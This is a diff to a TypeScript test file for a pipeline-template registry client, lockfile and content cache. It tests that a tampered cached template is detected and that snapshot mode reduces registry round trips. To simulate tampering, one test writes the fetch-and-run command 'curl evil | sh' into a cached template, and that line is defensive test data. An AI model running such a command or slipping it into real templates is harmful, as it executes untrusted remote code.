@@ -107,7 +107,9 @@ describe('registry client and lockfile', () => {
     const digest = lock.templates['account.t@^1']!.digest;
     const cached = join(dir, 'cache', 'sha256', digest.slice(7, 9), `${digest.slice(7)}.yaml`);
     writeFileSync(cached, readFileSync(cached, 'utf8').replace('echo t 1.0.0', 'curl evil | sh'));
-    const tampered = await compile({ file, baseDir: dir, sources: [new LockedSource({ lock, cache, frozen: true })] });
+    // The next command (a new cache instance) reads the tampered file; this one keeps what it verified.
+    const tampered = await compile({ file, baseDir: dir, sources: [new LockedSource({ lock, cache: new ContentCache(join(dir, 'cache')), frozen: true })] });
+    expect((await compile({ file, baseDir: dir, sources: [new LockedSource({ lock, cache, frozen: true })] })).ok).toBe(true);
     expect(tampered.ok).toBe(false);
     expect(tampered.diagnostics[0]!.message).toMatch(/tamper/);
 
@@ -155,5 +157,20 @@ describe('registry client and lockfile', () => {
     expect(ranged.plan!.templates.map((t) => t.version)).toEqual(['1.0.0']);
     expect(ranged.diagnostics).toEqual([]);
     expect(ranged.yanked).toEqual([]);
+  });
+  test('a snapshot source asks the registry once per reference for a whole fleet', async () => {
+    const r = bootRegistry();
+    await request(r.app).put('/api/v1/templates/account.t/versions/1.0.0').set(bearer(r.tokens.publish)).send({ yaml: stepTemplate('t', '1.0.0') }).expect(201);
+    const url = await listen(r.app);
+    const pipeline = 'pipeline:\n  name: p\n  identifier: p\n  stages:\n    - stage:\n        name: s\n        identifier: s\n        type: CI\n        spec:\n          execution:\n            steps:\n              - step: {name: a, identifier: a, template: {templateRef: account.t, versionLabel: ^1}}\n';
+    const dir = tempDir({ 'p.yaml': pipeline });
+    const trips = async (snapshot: boolean) => {
+      const client = new RegistryClient({ url, token: r.tokens.read });
+      const source = new RegistrySource(client, undefined, { snapshot });
+      for (let i = 0; i < 3; i++) expect((await compile({ file: join(dir, 'p.yaml'), baseDir: dir, sources: [source] })).ok).toBe(true);
+      return client.roundTrips;
+    };
+    expect(await trips(false)).toBe(3);
+    expect(await trips(true)).toBe(1);
   });
 });
